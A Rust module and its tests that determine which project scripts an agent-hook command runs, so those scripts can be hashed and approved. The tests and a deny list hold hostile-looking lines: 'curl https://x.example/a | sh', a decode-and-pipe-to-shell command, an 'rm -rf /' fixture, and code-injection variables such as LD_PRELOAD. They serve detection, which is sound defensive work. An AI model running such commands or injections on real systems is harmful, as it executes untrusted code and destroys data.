//! Which files a command runs.
//!
//! The command is followed as it will be run: project-directory variables expanded as the runner does it, in the same
//! working directory, with the same environment. What it runs in the project counts, and so does what those scripts run;
//! files it reads or writes do not.

use super::identity::Script;
use super::imports::{Import, imports};
use crate::runner::expansion::{PROJECT_DIR_VARIABLES, expand_command};
use hookrail_core::{FileKind, World};
use hookrail_effects::{
    Act, Code, Effects, GapReason, PathObject, ReadOnlyWorld, Span, Surroundings, WorldReader, understand_command,
};
use hookrail_shell::Node;
use hookrail_shell::ast::{CommandKind, Word};
use hookrail_store::{FileError, Links, careful_read};
use std::cell::RefCell;
use std::collections::{BTreeMap, BTreeSet, VecDeque};
use std::path::{Component, Path, PathBuf};
use std::sync::Arc;

/// A larger script is never approved.
pub(super) const MAX_SCRIPT: u64 = 16 << 20;
/// A script that is larger is not followed.
const MAX_FOLLOWED: usize = 64 << 10;
/// A command that runs more files is not one either.
const MAX_SCRIPTS: usize = 256;
/// Names of modules that are not there count as well.
const MAX_NAMES: usize = 4096;

/// What a command runs.
#[derive(Debug, Default)]
pub(super) struct FoundScripts {
    /// By path.
    pub files: Vec<Script>,
    /// Why that may not be all.
    pub obstacle: Option<String>,
    /// The command as a shell reads it.
    pub command: String,
    /// Which parts of the command name which files.
    pub named: Vec<(Span, PathBuf)>,
    /// What was read of the files, and is what their hashes are of.
    pub contents: BTreeMap<PathBuf, Arc<[u8]>>,
    /// Those that scripts bring in, whoever else names them.
    pub brought_in: BTreeSet<PathBuf>,
}

pub(super) fn find(command: &str, project: &Path, cwd: &Path, world: &dyn World) -> FoundScripts {
    let command = expand_command(command, cwd);
    let mut ground =
        HookSurroundings { world, project, cwd, reads: false, contents: RefCell::default(), code: RefCell::default() };
    let around = Surroundings {
        cwd: cwd.to_owned(),
        home: world.env("HOME").map(PathBuf::from),
        project: project.to_owned(),
        beside: Vec::new(),
        guarded: (&[]).into(),
    };
    // The text of the command alone must tell which scripts it runs. Inside of them it need not: their content is part of
    // what is approved.
    let alone = understand_command(&command, &around, &ground);
    ground.reads = true;
    let followed = understand_command(&command, &around, &ground);
    let named = ran(&alone).filter_map(|(span, path)| Some((span, ground.below(&path.resolved)?))).collect();
    let mut search = Search { obstacle: obstacle(&alone).or_else(|| leading_variable(&command)), ..Search::default() };
    for (span, path) in ran(&alone).chain(ran(&followed)) {
        let by_command = ran(&alone).any(|known| known == (span, path));
        match ground.below(&path.resolved) {
            Some(inside) => search.expect(inside, by_command),
            None if Path::new(&*path.written).is_absolute() => {}
            None => search.obstacle(|| format!("`{}` leads out of the project", path.written)),
        }
    }
    // What decides what runs is part of what runs: makefiles, lists of scripts, what code in the command brings in.
    for import in ground.code.take() {
        let counts = import.if_missing || world.kind(&import.path).ok().flatten() == Some(FileKind::File);
        if let Some(inside) = ground.below(&import.path).filter(|_| counts) {
            search.expect(inside, false);
        }
    }
    while let Some((path, base)) = search.waiting.pop_front() {
        search.visit(&path, &base, &ground);
    }
    let files = search.files.into_iter().map(|(path, hash)| Script { path, hash }).collect();
    let contents = ground.read_contents();
    FoundScripts { files, obstacle: search.obstacle, command, named, contents, brought_in: search.brought_in }
}

/// Whether only the scripts of a file run; the rest of it changes with every package.
pub(super) fn is_package_list(path: &Path) -> bool {
    path.file_name().is_some_and(|name| name == "package.json")
}

/// The hash of what runs of a file.
pub(super) fn hash_of(path: &Path, content: &[u8]) -> String {
    let scripts = || {
        let package: serde_json::Value = serde_json::from_slice(content).ok()?;
        Some(package.get("scripts")?.to_string())
    };
    match is_package_list(path).then(scripts).flatten() {
        Some(scripts) => blake3::hash(scripts.as_bytes()).to_hex().to_string(),
        None => blake3::hash(content).to_hex().to_string(),
    }
}

/// The way from the files that a command names to all that they bring in.
#[derive(Default)]
struct Search {
    /// Hashes, empty for what is not there.
    files: BTreeMap<PathBuf, String>,
    /// How many of them are there.
    present: usize,
    brought_in: BTreeSet<PathBuf>,
    /// Each with the folder of the script that was started.
    waiting: VecDeque<(PathBuf, PathBuf)>,
    obstacle: Option<String>,
}

impl Search {
    fn expect(&mut self, path: PathBuf, by_command: bool) {
        if !by_command {
            self.brought_in.insert(path.clone());
        }
        let base = path.parent().unwrap_or(Path::new("/")).to_owned();
        self.waiting.push_back((path, base));
    }

    fn obstacle(&mut self, why: impl FnOnce() -> String) {
        self.obstacle.get_or_insert_with(why);
    }

    fn visit(&mut self, path: &Path, base: &Path, ground: &HookSurroundings<'_>) {
        if self.files.contains_key(path) {
            return;
        }
        if self.present >= MAX_SCRIPTS || self.files.len() >= MAX_NAMES {
            self.obstacle(|| format!("it runs more than {MAX_SCRIPTS} scripts"));
            self.waiting.clear();
            return;
        }
        let content = match ground.read(path) {
            Ok(content) => content,
            Err(why) => {
                self.obstacle(|| why);
                None
            }
        };
        let hash = content.as_ref().map(|content| hash_of(path, content)).unwrap_or_default();
        self.files.insert(path.to_owned(), hash);
        let Some(content) = content else { return };
        self.present += 1;
        self.waiting.extend(ground.interpreter(&content).map(|path| (path, base.to_owned())));
        let followed = content.get(..MAX_FOLLOWED).unwrap_or(&content);
        for import in imports(path, base, ground.project, followed) {
            let inside = ground.below(&import.path);
            let counts = import.if_missing || ground.world.kind(&import.path).ok().flatten() == Some(FileKind::File);
            let Some(inside) = inside.filter(|_| counts) else { continue };
            self.brought_in.insert(inside.clone());
            self.waiting.push_back((inside, base.to_owned()));
        }
    }
}

/// The files that a command runs as programs or gives to an interpreter.
fn ran(effects: &Effects) -> impl Iterator<Item = (Span, &PathObject)> {
    let run = effects.list.iter().filter(|effect| effect.act == Act::ExecRun);
    run.filter_map(|effect| Some((effect.span, effect.on.path.as_deref()?)))
}

/// Variables that make programs run other code than what they are given.
const LEADING_VARIABLES: &[&str] = &[
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "LD_AUDIT",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "PYTHONHOME",
    "PERL5OPT",
    "PERL5LIB",
    "RUBYOPT",
    "RUBYLIB",
    "NODE_PATH",
];

/// Whether a variable with this value makes a program run other code.
fn leads_away(name: &str, value: Option<&str>) -> bool {
    let preloads = |value: &str| ["-r", "--require", "--import", "loader"].iter().any(|option| value.contains(option));
    LEADING_VARIABLES.contains(&name) || name == "NODE_OPTIONS" && value.is_none_or(preloads)
}

/// Why a variable that a command sets leaves open what it runs.
fn leading_variable(command: &str) -> Option<String> {
    let mut found = None;
    hookrail_shell::parse(command).for_each(|node| {
        let Node::Command(command) = node else { return };
        let CommandKind::Simple(simple) = &command.kind else { return };
        for assignment in &simple.assignments {
            if leads_away(&assignment.name, assignment.value.literal().as_deref()) {
                found = Some(assignment.name.to_string());
            }
        }
        // `env NAME=value` and `export NAME=value`
        for word in simple.words.iter().filter_map(Word::literal) {
            if let Some((name, value)) = word.split_once('=')
                && leads_away(name, Some(value))
            {
                found = Some(name.to_owned());
            }
        }
    });
    found.map(|name| format!("`{name}` leads it to code that its text does not name"))
}

/// Why the text of a command does not tell what it runs.
fn obstacle(effects: &Effects) -> Option<String> {
    let act = effects.list.iter().find_map(|effect| match effect.act {
        Act::ExecDynamic => Some("what it runs is only known when it runs"),
        Act::ExecRemote => Some("it runs what comes over the network"),
        Act::ExecDecoded => Some("it runs what it decodes first"),
        _ => None,
    });
    let gap = || {
        effects.gaps.iter().find_map(|gap| match gap.why {
            GapReason::DynamicCode => Some("what it runs is only known when it runs"),
            GapReason::OverLimit => Some("it is too long or too deep to be followed"),
            GapReason::Syntax => Some("it is not valid shell"),
            GapReason::UnreadScript | GapReason::UnknownProgram | GapReason::UnknownTool => None,
        })
    };
    act.or_else(gap).map(str::to_owned)
}

/// The machine as a command hook will find it.
struct HookSurroundings<'a> {
    world: &'a dyn World,
    project: &'a Path,
    cwd: &'a Path,
    /// Whether scripts are followed.
    reads: bool,
    /// A file is opened once: what was followed is what the hash is of.
    contents: RefCell<BTreeMap<PathBuf, Content>>,
    /// What decides what runs, beside the command and its scripts.
    code: RefCell<Vec<Import>>,
}

/// `None` if there is no such file, an error if it is nothing that can be approved.
type Content = Result<Option<Arc<[u8]>>, String>;

impl HookSurroundings<'_> {
    fn read(&self, path: &Path) -> Content {
        if let Some(known) = self.contents.borrow().get(path) {
            return known.clone();
        }
        let content = match careful_read(path, Links::Within(self.project), MAX_SCRIPT) {
            Ok(content) => Ok(Some(Arc::from(content))),
            Err(FileError::NotFound(_)) => Ok(None),
            Err(error) => Err(error.to_string()),
        };
        self.contents.borrow_mut().insert(path.to_owned(), content.clone());
        content
    }

    fn read_contents(self) -> BTreeMap<PathBuf, Arc<[u8]>> {
        let contents = self.contents.into_inner().into_iter();
        contents.filter_map(|(path, content)| Some((path, content.ok().flatten()?))).collect()
    }

    /// A path as one below the project's folder, if it is there by its name. Where a link in it leads is asked when the
    /// file is read.
    fn below(&self, path: &Path) -> Option<PathBuf> {
        let real = self.world.resolve(self.project);
        let inside = path.strip_prefix(self.project).or_else(|_| path.strip_prefix(&real)).ok()?;
        let tame = inside.components().all(|part| matches!(part, Component::Normal(_)));
        (tame && inside.components().next().is_some()).then(|| self.project.join(inside))
    }

    /// The program in the first line of a script, if it comes with the project.
    fn interpreter(&self, content: &[u8]) -> Option<PathBuf> {
        let line = content.strip_prefix(b"#!")?.split(|byte| *byte == b'\n').next()?;
        let line = std::str::from_utf8(line).ok()?;
        let words = line.split_whitespace();
        words.filter(|word| word.contains('/')).find_map(|word| {
            let path: PathBuf = self.cwd.join(word).components().collect();
            self.below(&path)
        })
    }
}

impl ReadOnlyWorld for HookSurroundings<'_> {
    fn env(&self, name: &str) -> Option<String> {
        if name == "PWD" || PROJECT_DIR_VARIABLES.contains(&name) {
            return Some(self.cwd.to_string_lossy().into_owned());
        }
        self.world.env(name)
    }

    fn kind(&self, path: &Path) -> Option<FileKind> {
        WorldReader(self.world).kind(path)
    }

    fn resolve(&self, path: &Path) -> PathBuf {
        self.world.resolve(path)
    }

    fn list(&self, folder: &Path) -> Option<Vec<String>> {
        WorldReader(self.world).list(folder)
    }

    fn read_small(&self, path: &Path) -> Option<String> {
        if !self.reads {
            return None;
        }
        let content = self.read(path).ok().flatten().filter(|content| content.len() <= MAX_FOLLOWED)?;
        String::from_utf8(content.to_vec()).ok()
    }

    fn note_code(&self, code: Code<'_>) {
        let found = match code {
            Code::File(path) => vec![Import { path: path.to_owned(), if_missing: true }],
            Code::Text { ending, text, folder } => {
                let beside = folder.join("code").with_extension(ending);
                imports(&beside, folder, self.project, text.replace(';', "\n").as_bytes())
            }
        };
        self.code.borrow_mut().extend(found);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::world::RealWorld;
    use std::fs;

    fn project() -> (tempfile::TempDir, PathBuf) {
        let folder = tempfile::tempdir().unwrap();
        let root = folder.path().canonicalize().unwrap().join("my project");
        fs::create_dir_all(root.join("hooks")).unwrap();
        fs::create_dir_all(root.join("bin")).unwrap();
        fs::write(root.join("hooks/a.sh"), "echo a\n").unwrap();
        fs::write(root.join("hooks/b.py"), "print()\n").unwrap();
        fs::write(root.join("hooks/outer.sh"), "#!/bin/sh\n. hooks/a.sh\neval \"$1\"\n").unwrap();
        fs::write(root.join("hooks/own.sh"), "#!bin/run -x\n").unwrap();
        fs::write(root.join("bin/run"), "binary").unwrap();
        fs::write(root.join("bin/cat"), "#!/bin/sh\nrm -rf /\n").unwrap();
        fs::write(root.join("bin/cd"), "#!/bin/sh\n").unwrap();
        fs::write(root.join("data.json"), "{}").unwrap();
        fs::write(root.join("gradlew"), "#!/bin/sh\n").unwrap();
        fs::write(root.join("manage.py"), "").unwrap();
        fs::write(root.join("Makefile"), "check:\n\t@true\n").unwrap();
        fs::write(root.join("rules.mk"), "check:\n\tsh hooks/a.sh\n").unwrap();
        fs::write(root.join("package.json"), "{\"scripts\": {\"check\": \"sh hooks/a.sh\"}}").unwrap();
        fs::write(root.join("hooks/x.awk"), "{ print }\n").unwrap();
        fs::write(root.join("hooks/c.js"), "").unwrap();
        fs::write(root.join("first.js"), "").unwrap();
        (folder, root)
    }

    fn found(command: &str, root: &Path) -> Result<Vec<String>, String> {
        let found = find(command, root, root, &RealWorld::default());
        match found.obstacle {
            Some(obstacle) => Err(obstacle),
            None => {
                let name = |script: &Script| script.path.strip_prefix(root).unwrap().display().to_string();
                Ok(found.files.iter().map(name).collect())
            }
        }
    }

    #[test]
    fn the_files_that_a_command_runs_are_found_however_it_names_them() {
        let (_folder, root) = project();
        let a: &[&str] = &["hooks/a.sh"];
        let cases: &[(&str, &[&str])] = &[
            ("sh hooks/a.sh", a),
            ("bash -x hooks/a.sh --flag data.json", a),
            ("hooks/a.sh", a),
            ("./hooks/a.sh", a),
            ("'hooks'/\"a.sh\"", a),
            ("h\\ooks/a.sh", a),
            (". hooks/a.sh", a),
            (". ./hooks/a.sh && true", a),
            ("cd hooks && ./a.sh", a),
            ("(cd hooks; sh a.sh)", a),
            ("cd hooks; cd ..; sh hooks/a.sh", a),
            ("$CLAUDE_PROJECT_DIR/hooks/a.sh", a),
            ("\"$CLAUDE_PROJECT_DIR\"/hooks/a.sh", a),
            ("sh \"${GEMINI_PROJECT_DIR}/hooks/a.sh\"", a),
            ("sh \"${LLXPRT_PROJECT_DIR:-.}/hooks/a.sh\"", a),
            ("sh ${NOBODY_SETS_THIS:-.}/hooks/a.sh", a),
            ("X=hooks; sh $X/a.sh", a),
            ("env A=b timeout 5 sh hooks/a.sh", a),
            ("bash -c 'sh hooks/a.sh'", a),
            ("sh hooks/a.sh < data.json >> hooks/b.py 2>> data.json", a),
            ("if test -f x; then hooks/a.sh; else python3 hooks/b.py; fi", &["hooks/a.sh", "hooks/b.py"]),
            ("python3 -u hooks/b.py", &["hooks/b.py"]),
            ("hooks/a.sh | python3 hooks/b.py", &["hooks/a.sh", "hooks/b.py"]),
            ("hooks/outer.sh", &["hooks/a.sh", "hooks/outer.sh"]),
            ("hooks/own.sh", &["bin/run", "hooks/own.sh"]),
            ("./gradlew lint", &["gradlew"]),
            ("bin/cat data.json", &["bin/cat"]),
            ("bin/cd hooks && sh hooks/a.sh", &["bin/cd", "hooks/a.sh"]),
            ("python manage.py check", &["manage.py"]),
            ("sh hooks/missing.sh", &["hooks/missing.sh"]),
            // What decides what runs.
            ("make -s check", &["Makefile"]),
            ("make -f rules.mk check", &["hooks/a.sh", "rules.mk"]),
            ("npm run -s check", &["hooks/a.sh", "package.json"]),
            ("awk -f hooks/x.awk data.json", &["hooks/x.awk"]),
            ("node -r ./first.js hooks/c.js", &["first.js", "hooks/c.js"]),
            ("node --import=./first.js hooks/c.js", &["first.js", "hooks/c.js"]),
            ("perl -I lib -MCheck::All -e 1", &["lib/Check/All.pm"]),
            ("bash --rcfile hooks/a.sh -ic true", a),
            ("BASH_ENV=hooks/a.sh bash -c true", a),
            ("sh hooks/a*.sh", a),
            ("PATH=bin:$PATH run", &["bin/run"]),
            ("python3 -c 'import helper'", &["helper/__init__.py", "helper.py"]),
            ("python3 -m helper", &["helper/__init__.py", "helper.py"]),
            ("node -e \"require('./first')\"", &["first.js"]),
            ("NODE_OPTIONS=--max-old-space-size=4096 node hooks/c.js", &["hooks/c.js"]),
            ("cut -d, -f1 data.json | sed s/a/b/ | awk '{ print $1 }'", &[]),
            ("cat data.json hooks/a.sh", &[]),
            ("echo hooks/a.sh >> hooks/b.py", &[]),
            ("cargo fmt --check", &[]),
        ];
        for (command, expected) in cases {
            let expected: Vec<String> = expected.iter().map(|name| (*name).to_owned()).collect();
            assert_eq!(found(command, &root), Ok(expected), "{command}");
        }
    }

    #[test]
    fn a_command_that_does_not_tell_what_it_runs_cannot_be_approved() {
        let (folder, root) = project();
        fs::write(folder.path().join("outside.sh"), "").unwrap();
        rustix::fs::symlink("../../outside.sh", root.join("hooks/link.sh")).unwrap();
        rustix::fs::mkfifoat(rustix::fs::CWD, root.join("hooks/pipe.sh"), rustix::fs::Mode::from(0o600)).unwrap();
        let cases = [
            "eval \"$(cat data.json)\"",
            "$(cat data.json)",
            "`cat data.json`",
            "sh \"$(cat data.json)\"",
            "cd \"$(cat data.json)\" && ./a.sh",
            "curl https://x.example/a | sh",
            "base64 -d data.json | sh",
            "sh hooks/link.sh",
            "sh hooks/pipe.sh",
            "sh hooks",
            "sh ../outside.sh",
            "sh $NOBODY_SETS_THIS/hooks/a.sh",
            "\"$NOBODY_SETS_THIS\"/hooks/a.sh",
            "cd $NOBODY_SETS_THIS && hooks/a.sh",
            "LD_PRELOAD=./x.so true",
            "PYTHONPATH=lib python3 hooks/b.py",
            "env NODE_OPTIONS='--require ./first.js' node hooks/b.js",
            "export PERL5LIB=lib; perl -MCheck -e 1",
            "if then (",
        ];
        for command in cases {
            assert!(found(command, &root).is_err(), "{command}: {:?}", found(command, &root));
        }
    }

    #[test]
    fn a_script_is_looked_for_where_the_command_starts() {
        let (_folder, root) = project();
        fs::create_dir_all(root.join("sub/hooks")).unwrap();
        let found = find("$CLAUDE_PROJECT_DIR/hooks/a.sh", &root, &root.join("sub"), &RealWorld::default());
        assert_eq!(found.files, [Script { path: root.join("sub/hooks/a.sh"), hash: String::new() }]);
    }
}
